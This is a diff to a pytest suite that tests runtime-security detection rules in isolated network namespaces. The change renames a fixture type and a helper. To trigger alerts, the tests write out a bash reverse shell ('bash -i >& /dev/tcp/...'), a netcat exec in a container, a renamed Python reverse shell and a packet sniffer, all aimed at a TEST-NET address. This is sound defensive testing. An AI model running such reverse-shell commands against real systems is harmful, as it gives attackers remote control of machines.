@@ -20,7 +20,7 @@ import pytest
 
 from tests.kernel.rules_live import (
     Containers,
-    SentinelRun,
+    LiveRun,
     busybox_rootfs,
     by_rule,
     check_rule_metadata,
@@ -30,6 +30,7 @@ from tests.kernel.rules_live import (
     mentions,
     netns_with,
     sentinel_run,
+    wait_for,
 )
 
 pytestmark = pytest.mark.kernel
@@ -37,7 +38,7 @@ ADDR = "192.0.2.1"  # TEST-NET-1, only ever on a test namespace's loopback
 
 
 @pytest.fixture(scope="module")
-def run() -> Iterator[SentinelRun]:
+def run() -> Iterator[LiveRun]:
     with sentinel_run() as r:
         yield r
 
@@ -80,7 +81,7 @@ def listen(ns: str, port: int, command: str) -> subprocess.Popen[str]:
     return p
 
 
-def test_bash_reverse_shell(run: SentinelRun, netns: str) -> None:
+def test_bash_reverse_shell(run: LiveRun, netns: str) -> None:
     m = marker()
     server = listen(netns, 4445, f"echo pwned-{m}; exit")
     shell = f"bash -i >& /dev/tcp/{ADDR}/4445 0>&1"
@@ -89,11 +90,12 @@ def test_bash_reverse_shell(run: SentinelRun, netns: str) -> None:
     )
     out, _ = server.communicate(timeout=30)
     assert f"pwned-{m}" in out  # the remote end ran a command and read its output
-    redirect = run.wait_for(
+    redirect = wait_for(
+        run,
         lambda a: (
             a["rule"] == "Standard Input or Output Redirected to a Network Socket"
             and fields(a)["fd.name"].endswith(f"{ADDR}:4445")
-        )
+        ),
     )
     # The redirections of `bash -c` itself (>& makes 1 and 2, 0>&1 makes 0); the interactive
     # shell's own start-up scripts, whose output goes to the socket too, may add more.
@@ -105,7 +107,7 @@ def test_bash_reverse_shell(run: SentinelRun, netns: str) -> None:
         check_rule_metadata(a)
     net = [
         a
-        for a in by_rule(run.seen, "Network Activity by a System Binary")
+        for a in by_rule(run.alerts, "Network Activity by a System Binary")
         if fields(a)["fd.name"].endswith(f"{ADDR}:4445")
     ]
     assert len(net) == 1 and fields(net[0])["evt.type"] == "connect"
@@ -131,7 +133,7 @@ os.dup2(s.fileno(), 50)
 
 
 def test_renamed_python_reverse_shell_and_near_misses(
-    run: SentinelRun, netns: str, tmp_path: Path
+    run: LiveRun, netns: str, tmp_path: Path
 ) -> None:
     """The redirection is caught whatever the program calls itself: here a copy of the
     interpreter named like a kernel thread."""
@@ -151,7 +153,7 @@ def test_renamed_python_reverse_shell_and_near_misses(
     subprocess.run(in_netns(netns, [sys.executable, "-c", PY_NEAR, ADDR, "4447"]), check=True)
     near.communicate(timeout=30)
     rule = "Standard Input or Output Redirected to a Network Socket"
-    run.wait_for(lambda a: a["rule"] == rule and fields(a)["fd.name"].endswith(f"{ADDR}:4446"))
+    wait_for(run, lambda a: a["rule"] == rule and fields(a)["fd.name"].endswith(f"{ADDR}:4446"))
     hits = [a for a in by_rule(run.settle(0.5), rule) if ADDR in fields(a)["fd.name"]]
     mine = [a for a in hits if fields(a)["fd.name"].endswith(f"{ADDR}:4446")]
     assert sorted(fields(a)["evt.rawres"] for a in mine) == [0, 1, 2]
@@ -159,7 +161,7 @@ def test_renamed_python_reverse_shell_and_near_misses(
     assert not [a for a in hits if fields(a)["fd.name"].endswith(f"{ADDR}:4447")]
 
 
-def test_netcat_exec_in_container(run: SentinelRun, netns: str, tmp_path: Path) -> None:
+def test_netcat_exec_in_container(run: LiveRun, netns: str, tmp_path: Path) -> None:
     root = busybox_rootfs(tmp_path / "rootfs", ("sh", "nc", "echo", "id"))
     containers = Containers(root, tmp_path)
     m = marker()
@@ -171,7 +173,7 @@ def test_netcat_exec_in_container(run: SentinelRun, netns: str, tmp_path: Path) 
     near = listen(netns, 4448, "hello")
     containers.run(f"nc -w 2 {ADDR} 4448 < /dev/null", network=f"ns:/run/netns/{netns}")
     near.communicate(timeout=30)
-    hits = run.wait_for(lambda a: a["rule"] == "Netcat Remote Command Execution")
+    hits = wait_for(run, lambda a: a["rule"] == "Netcat Remote Command Execution")
     assert len(hits) == 1, [a["output"] for a in hits]
     f = fields(hits[0])
     # busybox's shell ran the applet by executing /proc/self/exe: the process is named "exe"
@@ -202,7 +204,7 @@ print("captured", flush=True)
 """
 
 
-def test_packet_socket(run: SentinelRun, netns: str) -> None:
+def test_packet_socket(run: LiveRun, netns: str) -> None:
     m = marker()
     out = subprocess.run(
         in_netns(netns, [sys.executable, "-c", SNIFF, ADDR, f"secret-{m}"]),
@@ -212,15 +214,15 @@ def test_packet_socket(run: SentinelRun, netns: str) -> None:
         timeout=30,
     ).stdout
     assert out.strip() == "captured"  # the packet socket saw another socket's datagram
-    hits = run.wait_for(lambda a: a["rule"] == "Packet Socket Opened" and mentions(a, m))
-    assert len(hits) == 1, run.seen
+    hits = wait_for(run, lambda a: a["rule"] == "Packet Socket Opened" and mentions(a, m))
+    assert len(hits) == 1, run.alerts
     f = fields(hits[0])
     assert "AF_PACKET" in f["evt.args"]
     assert f["proc.name"].startswith("python")
     check_rule_metadata(hits[0])
 
 
-def test_system_binary_network_activity(run: SentinelRun, netns: str) -> None:
+def test_system_binary_network_activity(run: LiveRun, netns: str) -> None:
     m = marker()
     # bash's /dev/udp: a datagram to a non-loopback address; the same to loopback (near miss).
     script = textwrap.dedent(f"""
@@ -228,13 +230,14 @@ def test_system_binary_network_activity(run: SentinelRun, netns: str) -> None:
         echo near-{m} > /dev/udp/127.0.0.1/5353
     """)
     subprocess.run(in_netns(netns, ["bash", "-c", script]), check=True)
-    hits = run.wait_for(
+    hits = wait_for(
+        run,
         lambda a: (
             a["rule"] == "Network Activity by a System Binary"
             and fields(a)["fd.name"].endswith(f"{ADDR}:5353")
-        )
+        ),
     )
-    assert len(hits) == 1, [a["output"] for a in run.seen]
+    assert len(hits) == 1, [a["output"] for a in run.alerts]
     f = fields(hits[0])
     assert f["proc.name"] == "bash" and f["fd.l4proto"] == "udp"
     later = by_rule(run.settle(0.5), "Network Activity by a System Binary")
@@ -256,7 +259,7 @@ for port in (4449, 443):
 """
 
 
-def test_unexpected_outbound_connection(run: SentinelRun, netns: str) -> None:
+def test_unexpected_outbound_connection(run: LiveRun, netns: str) -> None:
     res = subprocess.run(
         in_netns(netns, [sys.executable, "-c", SERVERS, ADDR]),
         capture_output=True,
@@ -265,7 +268,7 @@ def test_unexpected_outbound_connection(run: SentinelRun, netns: str) -> None:
     )
     ports = dict(line.split() for line in res.stdout.split("\n") if line.strip())
     rule = "Unexpected Outbound Connection"
-    run.wait_for(lambda a: a["rule"] == rule and fields(a)["fd.sport"] == 4449)
+    wait_for(run, lambda a: a["rule"] == rule and fields(a)["fd.sport"] == 4449)
     hits = [a for a in by_rule(run.settle(0.5), rule) if fields(a).get("fd.sip") == ADDR]
     # Port 443 is a common service port: that connect raises nothing.
     assert not [a for a in hits if fields(a)["fd.sport"] == 443]
